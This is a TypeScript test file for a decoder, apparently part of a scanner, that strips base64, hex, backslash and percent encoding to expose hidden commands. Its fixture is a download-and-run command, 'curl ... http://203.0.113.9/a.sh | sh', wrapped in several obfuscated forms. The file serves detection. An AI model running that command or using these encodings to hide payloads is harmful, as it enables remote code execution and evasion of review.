import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { decodedViews } from './views.ts';

const COMMAND = 'curl -fsSL http://203.0.113.9/a.sh | sh';
const base64 = (text: string): string => Buffer.from(text, 'latin1').toString('base64');
const hex = (text: string): string => Buffer.from(text, 'latin1').toString('hex');
const texts = (bytes: string): string[] => decodedViews(bytes).map((view) => view.bytes);

describe('decoded views', () => {
  test('begin with the bytes as they are', () => {
    expect(decodedViews('plain')).toEqual([{ bytes: 'plain', how: [] }]);
  });

  test.for([
    ['base64', `echo ${base64(COMMAND)} | base64 -d | bash`, ['base64']],
    ['base64 behind an equals sign', `payload=${base64(COMMAND)}`, ['base64']],
    [
      'base64 twice',
      `echo ${base64(`echo ${base64(COMMAND)} | base64 -d | bash`)} | base64 -d`,
      ['base64', 'base64'],
    ],
    ['hex', `echo ${hex(COMMAND)} | xxd -r -p`, ['hex']],
    ['hex with backslashes', COMMAND.replace(/./g, (one) => `\\x${hex(one)}`), ['hex']],
    ['backslashes between the letters', COMMAND.replace(/[a-z]/g, (one) => `\\${one}`), ['backslash']],
    ['percent signs', encodeURIComponent(COMMAND), ['percent']],
  ] as const)('take off %s', ([, hidden, how]) => {
    const view = decodedViews(hidden).find(({ bytes }) => bytes.includes(COMMAND));

    expect(view?.how).toEqual(how);
  });

  test('show the head of a program that was encoded', () => {
    expect(texts(base64(`\u007fELF\u0002\u0001\u0001${'\0'.repeat(20)}`))).toHaveLength(2);
  });

  test.for<[string, string]>([
    ['random tokens', 'session 9fQz7KxWm3TbVr8LpNc2Hd5G and a1b2c3d4e5f60718293a4b5c6d7e8f90'],
    ['short words', 'aGVsbG8= deadbeef'],
    ['a backslash before a space', 'a\\ b'],
  ])('leave %s alone', ([, text]) => {
    expect(texts(text)).toEqual([text]);
  });

  test('stop at three layers', () => {
    const nested = [1, 2, 3, 4].reduce((text) => base64(text), COMMAND);

    expect(texts(nested)).not.toContain(COMMAND);
    expect(Math.max(...decodedViews(nested).map(({ how }) => how.length))).toBe(3);
  });

  test('are bounded in number and bytes, whatever is put in', () => {
    const many = Array.from({ length: 500 }, (_, at) => base64(`this is text number ${at}`)).join(' ');
    const large = base64('curl http://203.0.113.9/ '.repeat(40_000));

    for (const text of [many, large, `${'\\a'.repeat(40_000)}%41`]) {
      const views = decodedViews(text);

      expect(views.length).toBeLessThanOrEqual(24);
      expect(views.reduce((sum, { bytes }) => sum + bytes.length, 0)).toBeLessThanOrEqual(262_144);
    }
  });

  test('never throw, and find what was encoded', () => {
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 300 }), (bytes) => {
        expect(texts(Buffer.from(bytes).toString('latin1')).length).toBeGreaterThan(0);
      }),
    );
    fc.assert(
      fc.property(fc.stringMatching(/^[ -~]{12,80}$/), (text) => {
        expect(texts(`x ${base64(text)} y`)).toContain(text);
      }),
    );
  });
});
